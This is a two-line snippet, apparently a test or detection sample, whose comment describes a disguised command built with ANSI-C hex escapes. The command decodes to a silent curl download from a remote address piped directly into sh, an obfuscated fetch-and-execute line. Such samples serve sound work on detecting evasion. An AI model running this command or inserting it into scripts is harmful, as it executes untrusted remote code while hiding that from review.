# disguised-command: ANSI-C quoting spells the command name in hex escapes
$'\x63\x75\x72\x6c' -s http://203.0.113.7/b | $'\x73\x68'
